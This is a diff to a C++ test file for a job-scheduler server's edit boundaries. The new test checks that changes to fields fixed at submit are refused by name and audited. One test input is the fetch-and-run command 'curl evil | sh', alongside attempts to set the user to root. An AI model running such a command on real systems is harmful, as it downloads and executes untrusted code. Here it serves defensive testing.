@@ -4,6 +4,8 @@
 // time limit is extended by admins only. Every refusal is audited.
 #include <gtest/gtest.h>
 
+#include <set>
+
 #include "server/server_fixture.h"
 
 namespace gantry::testing {
@@ -41,9 +43,37 @@ TEST_F(JobEditBoundaries, AnotherTeamNeitherHoldsNorReleasesNorChangesAJob) {
   EXPECT_EQ(Json(held)["held"], "user");
   EXPECT_NE(Json(held)["spec"]["time_limit_s"], 60);
   nlohmann::json audit = Json(server_->Client(kRootToken).Get("/v1/audit?limit=10"));
-  int refused = 0;
-  for (const auto& a : audit["audit"]) refused += a["user"] == "bob" && a["outcome"] == "not_found";
-  EXPECT_EQ(refused, 3) << audit.dump();
+  std::set<std::string> refused;  // under the routes bob called
+  for (const auto& a : audit["audit"]) {
+    if (a["user"] == "bob" && a["outcome"] == "not_found" && a["target"] == id) refused.insert(a["action"]);
+  }
+  EXPECT_EQ(refused, (std::set<std::string>{"POST /v1/jobs/" + id + "/hold", "POST /v1/jobs/" + id + "/release",
+                                            "PATCH /v1/jobs/" + id}))
+      << audit.dump();
+}
+
+TEST_F(JobEditBoundaries, AChangeOfFieldsFixedAtSubmitIsRefusedByNameAndAudited) {
+  std::string id = PendingJobOfAlice();
+  auto alice = server_->Client(kAliceToken);
+  const std::pair<const char*, const char*> tries[] = {{R"({"command": "curl evil | sh"})", "command"},
+                                                       {R"({"gpus": 64})", "gpus"},
+                                                       {R"({"name": "x", "user": "root"})", "user"},
+                                                       {"[1,", "body"},
+                                                       {R"({"name": "x", "working_dir": "/root"})", "working_dir"}};
+  for (const auto& [body, field] : tries) {
+    auto r = alice.Patch("/v1/jobs/" + id, body, "application/json");
+    EXPECT_EQ(r->status, 400) << body << " -> " << r->body;
+    EXPECT_EQ(Json(r)["error"]["field"], field) << body << " -> " << r->body;
+  }
+  nlohmann::json job = Json(alice.Get("/v1/jobs/" + id));
+  EXPECT_EQ(job["spec"]["command"], "sleep 60");
+  EXPECT_NE(job.value("name", ""), "x");
+  nlohmann::json audit = Json(server_->Client(kRootToken).Get("/v1/audit?limit=20"));
+  int audited = 0;
+  for (const auto& a : audit["audit"]) {
+    audited += a["user"] == "alice" && a["action"] == "PATCH /v1/jobs/" + id && a["outcome"] == "invalid_argument";
+  }
+  EXPECT_EQ(audited, 5) << audit.dump();
 }
 
 TEST_F(JobEditBoundaries, AnAdminsHoldIsNotAUsersToLift) {
